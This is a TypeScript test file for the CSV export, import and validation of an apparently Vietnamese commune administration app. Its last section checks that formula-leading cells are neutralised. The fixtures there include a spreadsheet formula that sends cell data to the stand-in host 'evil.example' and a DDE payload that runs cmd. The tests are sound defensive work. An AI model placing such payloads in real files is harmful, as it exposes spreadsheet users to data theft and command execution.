import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { DocumentRecord, Meeting, Plan, ProcedureMonth, Unit } from '../domain/schemas';
import { HEADERS } from './columns';
import {
	documentsToCsv,
	formatDateTimeCell,
	meetingsToCsv,
	plansToCsv,
	proceduresToCsv,
	toCsv,
	unitsToCsv
} from './export';
import { parseCsv } from './parse';
import { NOW, vn } from './test-support';
import { validateRows } from './validate';

const meta = { createdAt: NOW, updatedAt: NOW, deleted: false };

const units: Unit[] = [
	{
		code: 'VP',
		name: 'Văn phòng HĐND & UBND xã',
		kind: 'department',
		archived: false,
		order: 0,
		...meta
	},
	{ code: 'THON01', name: 'Thôn 1, "Bắc"', kind: 'hamlet', archived: false, order: 1, ...meta }
];
const codes = new Set(units.map((u) => u.code));

const plans: Plan[] = [
	{
		id: 'VP:2026',
		unitCode: 'VP',
		year: 2026,
		baselineConferences: 20,
		baselineDocuments: 300,
		plannedConferences: 17,
		baselineMonths: 12,
		...meta
	},
	{
		id: 'THON01:2026',
		unitCode: 'THON01',
		year: 2026,
		baselineConferences: null,
		baselineDocuments: 0,
		plannedConferences: null,
		baselineMonths: 12,
		...meta
	}
];

const meetingBase = {
	plannedMinutes: null,
	chair: '',
	location: '',
	notes: '',
	agenda: [],
	...meta
};
const meetings: Meeting[] = [
	{
		id: 'm-1',
		unitCode: 'VP',
		title: 'Hội nghị sơ kết, "6 tháng"\nđầu năm',
		category: 'chuyen_mon',
		format: 'ket_hop',
		role: 'tham_du',
		paperless: true,
		status: 'held',
		sittings: [
			{ start: vn(2026, 1, 14, 7, 30), end: vn(2026, 1, 14, 11, 30) },
			{ start: vn(2026, 1, 14, 13, 30, 12) + 345, end: vn(2026, 1, 14, 14, 40, 5) }
		],
		attendees: 15,
		date: '2026-01-14',
		...meetingBase
	},
	{
		id: '0190a3b2-7c4d-7e8f-9a0b-1c2d3e4f5a6b',
		unitCode: 'THON01',
		title: 'Họp thôn',
		category: 'hop',
		format: 'truc_tiep',
		role: 'chu_tri',
		paperless: false,
		status: 'planned',
		sittings: [{ start: vn(2026, 12, 10, 7, 0), end: null }],
		attendees: null,
		date: '2026-12-10',
		...meetingBase
	},
	{
		id: 'm-3',
		unitCode: 'VP',
		title: 'Đã hủy',
		category: 'quan_triet',
		format: 'truc_tuyen',
		role: 'chu_tri',
		paperless: false,
		status: 'cancelled',
		sittings: [{ start: vn(2026, 1, 1, 0, 0), end: vn(2026, 1, 1, 1, 0) }],
		attendees: 0,
		date: '2026-01-01',
		...meetingBase
	}
];

const documents: DocumentRecord[] = [
	{
		id: 'd-1',
		unitCode: 'VP',
		number: '12/KH-UBND',
		kind: 'ke_hoach',
		issuedOn: '2026-03-31',
		electronic: true,
		secret: false,
		title: 'Kế hoạch; triển khai',
		...meta
	},
	{
		id: 'd-2',
		unitCode: 'THON01',
		number: '1/BC',
		kind: 'bao_cao',
		issuedOn: '2026-01-01',
		electronic: false,
		secret: true,
		title: '',
		...meta
	}
];

const procedures: ProcedureMonth[] = [
	{
		id: 'VP:2026-01',
		unitCode: 'VP',
		month: '2026-01',
		total: 97,
		digital: 93,
		digitized: 96,
		...meta
	},
	{
		id: 'THON01:2026-02',
		unitCode: 'THON01',
		month: '2026-02',
		total: 0,
		digital: 0,
		digitized: 0,
		...meta
	}
];

const ctx = { knownUnitCodes: codes, now: NOW, newId: () => 'should-not-be-used' };

describe('CSV export', () => {
	it('writes a BOM, the spec header in order and CRLF line endings', () => {
		const text = proceduresToCsv(procedures);
		expect(text.startsWith('\uFEFFunit_code,month,total,digital,digitized\r\n')).toBe(true);
		expect(text).toBe(
			'\uFEFFunit_code,month,total,digital,digitized\r\nVP,2026-01,97,93,96\r\nTHON01,2026-02,0,0,0\r\n'
		);
		expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
	});

	it('uses exactly the spec columns for every kind', () => {
		const outputs = {
			units: unitsToCsv(units),
			plans: plansToCsv(plans),
			meetings: meetingsToCsv(meetings),
			documents: documentsToCsv(documents),
			procedures: proceduresToCsv(procedures)
		};
		for (const [kind, text] of Object.entries(outputs)) {
			expect(parseCsv(text).headers).toEqual(HEADERS[kind as keyof typeof outputs]);
		}
	});

	it('quotes fields with commas, quotes and line breaks (RFC 4180)', () => {
		const text = meetingsToCsv([meetings[0] as Meeting]);
		expect(text).toContain('"Hội nghị sơ kết, ""6 tháng""\nđầu năm"');
		expect(documentsToCsv(documents)).toContain('"Kế hoạch; triển khai"');
	});

	it('writes one row per sitting, local date-times, 1/0 booleans and empty for null', () => {
		const lines = meetingsToCsv(meetings.slice(1)).split('\r\n');
		expect(lines[1]).toBe(
			'0190a3b2-7c4d-7e8f-9a0b-1c2d3e4f5a6b,THON01,Họp thôn,hop,truc_tiep,0,planned,2026-12-10 07:00,,,chu_tri'
		);
		expect(lines[2]).toBe(
			'm-3,VP,Đã hủy,quan_triet,truc_tuyen,0,cancelled,2026-01-01 00:00,2026-01-01 01:00,0,chu_tri'
		);
		expect(parseCsv(meetingsToCsv(meetings)).rows).toHaveLength(4);
	});

	it('writes whole minutes as YYYY-MM-DD HH:mm and other instants as ISO with +07:00', () => {
		expect(formatDateTimeCell(vn(2026, 1, 14, 7, 30))).toBe('2026-01-14 07:30');
		expect(formatDateTimeCell(vn(2026, 1, 14, 13, 30, 12) + 345)).toBe(
			'2026-01-14T13:30:12.345+07:00'
		);
	});

	it('leaves out tombstoned records', () => {
		const gone = { ...(documents[0] as DocumentRecord), id: 'gone', deleted: true };
		const rows = parseCsv(documentsToCsv([...documents, gone])).rows;
		expect(rows.map((r) => r.cells.id)).toEqual(['d-1', 'd-2']);
		const goneUnit = { ...(units[0] as Unit), code: 'OLD', deleted: true };
		expect(parseCsv(unitsToCsv([goneUnit, ...units])).rows.map((r) => r.cells.code)).toEqual([
			'VP',
			'THON01'
		]);
	});

	it('writes units in display order', () => {
		const reversed = [...units].reverse();
		expect(parseCsv(unitsToCsv(reversed)).rows.map((r) => r.cells.code)).toEqual(['VP', 'THON01']);
	});
});

describe('CSV round trip: export, parse, validate gives the records back', () => {
	it('for units', () => {
		const r = validateRows('units', parseCsv(toCsv('units', units)).rows, ctx);
		expect(r.rejected).toEqual([]);
		expect(r.records).toEqual(units);
	});

	it('for plans', () => {
		const r = validateRows('plans', parseCsv(toCsv('plans', plans)).rows, ctx);
		expect(r.rejected).toEqual([]);
		expect(r.records).toEqual(plans);
	});

	it('for meetings, keeping ids, sittings to the millisecond, running sittings and flags', () => {
		const r = validateRows('meetings', parseCsv(toCsv('meetings', meetings)).rows, ctx);
		expect(r.rejected).toEqual([]);
		expect(r.records).toEqual(meetings);
	});

	it('for documents', () => {
		const r = validateRows('documents', parseCsv(toCsv('documents', documents)).rows, ctx);
		expect(r.rejected).toEqual([]);
		expect(r.records).toEqual(documents);
	});

	it('for procedures', () => {
		const r = validateRows('procedures', parseCsv(toCsv('procedures', procedures)).rows, ctx);
		expect(r.rejected).toEqual([]);
		expect(r.records).toEqual(procedures);
	});
});

describe('CSV injection: formula-leading text is written as text and read back unchanged', () => {
	const risky = [
		'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
		'+84 912 345 678',
		'-5 người vắng',
		'@SUM(A1:A9)',
		'\t=1+1',
		'\r=1+1',
		'\n=1+1',
		'\u0000=1+1',
		"'=already quoted by someone",
		"'plain quote"
	];

	/** The cells as a spreadsheet sees them: papaparse alone, without our import's unescaping. */
	const rawCells = (text: string): string[][] =>
		Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data.slice(1);

	it('prefixes a single quote to text cells starting with = + - @ tab, CR, LF or NUL, and nothing else', () => {
		const docs: DocumentRecord[] = risky.map((title, i) => ({
			...(documents[0] as DocumentRecord),
			id: i === 0 ? '=cmd|"/c calc"!A1' : `d-${i}`,
			number: i === 1 ? '-1/BC' : `${i}/BC`,
			title
		}));
		const cells = rawCells(documentsToCsv(docs));
		expect(cells[0]![0]).toBe('\'=cmd|"/c calc"!A1');
		expect(cells[1]![2]).toBe("'-1/BC");
		expect(cells.map((c) => c[7])).toEqual([
			`'${risky[0]}`,
			"'+84 912 345 678",
			"'-5 người vắng",
			"'@SUM(A1:A9)",
			"'\t=1+1",
			"'\r=1+1",
			"'\n=1+1",
			"'\u0000=1+1",
			"''=already quoted by someone",
			"'plain quote"
		]);
		// Dates, booleans and counts are untouched.
		expect(cells[2]!.slice(3, 7)).toEqual(['ke_hoach', '2026-03-31', '1', '0']);
	});

	it('round-trips such titles, names, numbers and ids through export and import', () => {
		const docs: DocumentRecord[] = risky
			.filter((t) => t.trim() === t)
			.map((title, i) => ({
				...(documents[0] as DocumentRecord),
				id: `=id-${i}`,
				number: `-${i}/BC`,
				title
			}));
		const r = validateRows('documents', parseCsv(toCsv('documents', docs)).rows, ctx);
		expect(r.rejected).toEqual([]);
		expect(r.records).toEqual(docs);

		const named: Unit[] = [{ ...(units[0] as Unit), name: '=1+2 thôn', code: '-VP' }];
		const u = validateRows('units', parseCsv(toCsv('units', named)).rows, {
			...ctx,
			knownUnitCodes: new Set(['-VP'])
		});
		expect(u.rejected).toEqual([]);
		expect(u.records).toEqual(named);

		const m: Meeting[] = [{ ...(meetings[1] as Meeting), id: '@m', title: '+Họp @thôn' }];
		const back = validateRows('meetings', parseCsv(toCsv('meetings', m)).rows, ctx);
		expect(back.rejected).toEqual([]);
		expect(back.records).toEqual(m);
	});
});
